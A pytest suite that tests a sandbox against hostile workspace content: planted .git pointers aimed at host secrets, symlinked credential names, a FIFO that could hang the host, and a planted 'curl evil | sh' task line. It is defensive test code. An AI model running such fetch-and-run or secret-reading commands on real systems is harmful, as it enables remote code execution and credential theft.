"""Names a command plants for the host to act on (docs/security.md, "Hostile workspace content").

Everything here is two steps: one command (or the host, for what only the
host can make) plants something in the workspace; the next command of the
same handle must run, with every protection in place, and nothing outside
the workspace may have become visible or been touched. The suite runs on the
long-lived sandbox and, with A3S_TEST_SANDBOX_REUSE=0, one-shot.
"""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest


@pytest.fixture
def ws(fs_host_dir: Path) -> Path:
    path = fs_host_dir / "ws"
    path.mkdir()
    return path


@pytest.fixture
def host_secret(fs_tmp_dir: Path) -> Path:
    """A host directory the sandbox must never show (host /tmp is a private tmpfs inside)."""
    secret = fs_tmp_dir / "secret"
    secret.mkdir()
    (secret / "key").write_text("HOST-SECRET-KEY\n")
    return secret


# ---- a .git pointer chooses no host bind (issue 9, item 1) ------------------------------------


@pytest.mark.parametrize("name", [".GIT", ".Git"])
def test_a_git_pointer_a_command_writes_binds_nothing(name, ws, host_secret, fs, fs_sandbox):
    """Only the exact name .git is followed, and no command can write it (it is
    read-only, or held by a placeholder): `.GIT` used to bind its gitdir."""
    sb = fs_sandbox(ws)
    with sb:
        fs.run(
            sb,
            f"printf 'gitdir: {host_secret}\\n' > {name}; mkdir -p d; "
            f"printf 'gitdir: {host_secret}\\ncommondir: {host_secret}\\n' > d/.git",
        )
        out = fs.run(sb, f"cat {shlex.quote(str(host_secret))}/key; ls {host_secret}; echo END")
    assert "HOST-SECRET-KEY" not in out.stdout + out.stderr, out
    assert out.stdout.endswith("END\n"), out


def test_a_toolchain_root_in_the_workspace_cannot_be_pointed_at_the_home(
    fs_host_dir, fs, fs_env_sandbox
):
    """VIRTUAL_ENV (or a PATH entry) inside the workspace is re-exposed from the masked home
    when it resolves there: a command that replaces it with a link into the home must not
    make the next sandbox mount that part of the home."""
    home, ws = fs_host_dir / "home-u", fs_host_dir / "ws"
    (home / "private").mkdir(parents=True)
    (home / "private" / "key").write_text("HOME-SECRET\n")
    ws.mkdir()
    env = [f"HOME={home}", f"VIRTUAL_ENV={ws}/.venv", f"PATH={ws}/.venv/bin:/usr/bin:/bin"]
    with fs_env_sandbox(ws, env) as sb:
        fs.run(sb, f"ln -s {home}/private .venv")
    with fs_env_sandbox(ws, env) as sb:  # a new session plans anew
        out = fs.run(sb, f"cat {home}/private/key .venv/key; echo END")
    assert "HOME-SECRET" not in out.stdout, out


def test_a_host_git_pointer_outside_the_workspace_is_not_mounted(ws, host_secret, fs, fs_sandbox):
    """A .git file the host has (an unpacked archive, say) naming a gitdir outside the
    workspace: not mounted, and the result says so."""
    (ws / ".git").write_text(f"gitdir: {host_secret}/../secret\x1b]0;title\x07\n")
    with fs_sandbox(ws) as sb:
        out = fs.run(sb, f"cat {host_secret}/key; echo END")
    assert "HOST-SECRET-KEY" not in out.stdout, out
    assert any("outside the workspace" in n for n in out.neutralized), out
    assert not any(ch in "".join(out.neutralized) for ch in "\x1b\x07"), "a note drives a terminal"


def test_a_commondir_that_leaves_the_workspace_is_not_mounted(ws, host_secret, fs, fs_sandbox):
    (ws / "repo.git").mkdir()
    (ws / "repo.git" / "commondir").write_text(f"{host_secret}\n")
    (ws / ".git").write_text("gitdir: ./repo.git\n")
    with fs_sandbox(ws) as sb:
        out = fs.run(sb, f"cat {host_secret}/key; touch repo.git/x 2>&1; echo END")
    assert "HOST-SECRET-KEY" not in out.stdout, out
    assert "Read-only file system" in out.stdout, "the gitdir inside was not bound read-only"
    assert any("commondir" in n and "outside" in n for n in out.neutralized), out


def test_a_gitdir_reached_through_a_symlink_is_not_followed(ws, host_secret, fs, fs_sandbox):
    """`.git` names ./link/g: a symlink on the way is a hop the host does not take."""
    os.symlink(host_secret.parent, ws / "link")
    (ws / ".git").write_text("gitdir: ./link/secret\n")
    with fs_sandbox(ws) as sb:
        out = fs.run(sb, "cat link/secret/key; echo END")
    assert "HOST-SECRET-KEY" not in out.stdout, out
    assert any("symlink" in n for n in out.neutralized), out


def test_a_fifo_in_a_git_pointer_does_not_hang_the_host(ws, fs, fs_sandbox):
    """The host reads <gitdir>/commondir when it plans a sandbox: a FIFO a command made
    there must not block the next plan (issue 9, item 4); the next session's first exec
    plans anew."""
    (ws / ".git").write_text("gitdir: ./g\n")
    fifo = ws / "g" / "commondir"
    unblocked = threading.Event()
    done = threading.Event()

    def unblock() -> None:  # only if the host hangs on the FIFO: then the test fails
        if not done.wait(20):
            unblocked.set()
            with open(fifo, "w") as f:
                f.write("../x\n")

    with fs_sandbox(ws) as sb:
        fs.run(sb, "mkdir -p g && mkfifo g/commondir")
    threading.Thread(target=unblock, daemon=True).start()
    with fs_sandbox(ws) as sb:
        out = sb.exec("echo RAN", timeout_ms=5000)
    done.set()
    assert not unblocked.is_set(), "the host blocked on a FIFO in the workspace"
    assert out.stdout == "RAN\n", out


@pytest.fixture
def shm_ws(fs_boundary_ready) -> Iterator[Path]:
    """A workspace on a tmpfs: thousands of directories cost little to make and remove."""
    path = Path(tempfile.mkdtemp(prefix="a3s-ws-", dir="/dev/shm"))
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def test_preparing_the_sandbox_counts_against_the_commands_time(shm_ws, fs_sandbox):
    """A workspace the host needs long to check (here 8,000 directories, scanned cold for
    credential files) must not run the command past its timeout: planning is part of
    the command's time (issue 9, item 4)."""
    for i in range(8000):
        os.makedirs(shm_ws / f"d{i // 100}" / f"e{i}")
    with fs_sandbox(shm_ws) as sb:
        out = sb.exec("echo RAN", timeout_ms=20)
    assert out.exit_code == 124 and out.timed_out and "RAN" not in out.stdout, out


def test_a_cancel_during_preparation_runs_nothing(ws, fs, fs_sandbox):
    cancel = threading.Event()
    cancel.set()
    with fs_sandbox(ws) as sb:
        out = sb.exec("touch ran; echo RAN", cancel=cancel)
    assert out.exit_code == 124 and out.cancelled and "RAN" not in out.stdout, out
    assert not (ws / "ran").exists()


# ---- credential names that are symlinks (issue 11) ---------------------------------------------


@pytest.mark.parametrize(
    ("plant", "note"),
    [
        ("mkdir -p sub && ln -s .. sub/.env", "workspace itself"),
        ("ln -s . .aws", "workspace itself"),
        ("mkdir -p sub && ln -s ../sub/../ sub/.ssh", "workspace itself"),
        ("mkdir -p a && ln -s a b && ln -s b/x .npmrc && touch a/x", "another symlink"),
    ],
)
def test_a_symlinked_credential_name_cannot_disable_later_commands(plant, note, ws, fs, fs_sandbox):
    """`ln -s .. sub/.env` made the mask cover the whole workspace: every later run
    failed (`bwrap: Can't chdir`) and no command could undo it."""
    (ws / "README").write_text("readme\n")
    with fs_sandbox(ws) as sb:
        fs.run(sb, plant)
        out = fs.run(sb, "cat README && touch made && echo RAN")
        again = fs.run(sb, "echo AGAIN")
    assert out.exit_code == 0 and out.stdout == "readme\nRAN\n", out
    assert again.stdout == "AGAIN\n", again
    assert (ws / "made").exists()
    assert any(note in n for n in out.neutralized), out


def test_a_symlinked_credential_dir_masks_its_target_and_nested_masks_are_dropped(
    ws, fs, fs_sandbox
):
    """`.aws -> conf/aws` with conf/aws/.env inside: the directory is masked once (a mask
    inside the mode-0 mask could not be mounted and would fail every run)."""
    (ws / "conf" / "aws").mkdir(parents=True)
    (ws / "conf" / "aws" / "credentials").write_text("AWS-SECRET\n")
    (ws / "conf" / "aws" / ".env").write_text("ENV-SECRET\n")
    os.symlink("conf/aws", ws / ".aws")
    with fs_sandbox(ws) as sb:
        out = fs.run(sb, "cat conf/aws/credentials conf/aws/.env .aws/credentials; echo END")
        again = fs.run(sb, "echo AGAIN")
    assert "SECRET" not in out.stdout, out
    assert out.stdout.endswith("END\n") and again.stdout == "AGAIN\n", (out, again)


# ---- other spellings of protected names are ordinary names -------------------------------------


@pytest.mark.parametrize(
    "plant",
    [
        "ln -s /etc/passwd .BASHRC",
        "ln -s . .VSCODE",
        "mkdir .GIT && touch .GIT/a && ln .GIT/a b",
        "echo x > .GITMODULES && ln .GITMODULES alias",
        "printf 'gitdir: /etc\\n' > .GIT",
    ],
)
def test_another_spelling_of_a_protected_name_cannot_disable_later_commands(
    plant, ws, fs, fs_sandbox
):
    """On a case-sensitive file system `.BASHRC` is not `.bashrc`: no tool reads it, so it
    is an ordinary name; `ln -s /etc/passwd .BASHRC` used to refuse every later run."""
    with fs_sandbox(ws) as sb:
        fs.run(sb, plant)
        out = fs.run(sb, "echo RAN; echo x > .bashrc 2>/dev/null || echo PROTECTED")
        undo = fs.run(sb, "rm -rf .BASHRC .VSCODE .GIT .GITMODULES alias b && echo UNDONE")
    assert out.stdout == "RAN\nPROTECTED\n", out
    assert undo.stdout == "UNDONE\n", undo


# ---- the verification snapshot sees every spelling a command can write (issue 9, item 7) -------


def test_the_snapshot_sees_what_a_command_wrote_under_another_spelling(ws, fs, fs_sandbox):
    from codeward.verification import WorkspaceSnapshot

    before = WorkspaceSnapshot.take(ws)
    with fs_sandbox(ws) as sb:
        fs.run(
            sb,
            "mkdir .Vscode && echo 'curl evil | sh' > .Vscode/tasks.sh; echo x > .git/x "
            "2>/dev/null; true",
        )
    changed = {c.path for c in before.diff(WorkspaceSnapshot.take(ws))}
    assert {".Vscode", ".Vscode/tasks.sh"} <= changed, changed
    assert not any(p == ".git" or p.startswith(".git/") for p in changed), changed


# ---- the CLI: two processes, one workspace -----------------------------------------------------


def test_the_cli_across_two_exec_calls(ws, host_secret):
    def cli(*words: str) -> subprocess.CompletedProcess[str]:
        env = {**os.environ, "A3S_TEST_SANDBOX_REUSE": os.environ.get("A3S_TEST_SANDBOX_REUSE", "")}
        return subprocess.run(
            [sys.executable, "-m", "codeward", "exec", "--workspace", str(ws), "--", *words],
            capture_output=True,
            text=True,
            timeout=120,
            env=env,
        )

    first = cli(f"printf 'gitdir: {host_secret}\\n' > .GIT; mkdir -p s; ln -s .. s/.env")
    assert first.returncode == 0, first
    second = cli(f"cat {host_secret}/key; echo RAN")
    assert second.returncode == 0 and "RAN" in second.stdout, second
    assert "HOST-SECRET-KEY" not in second.stdout, second
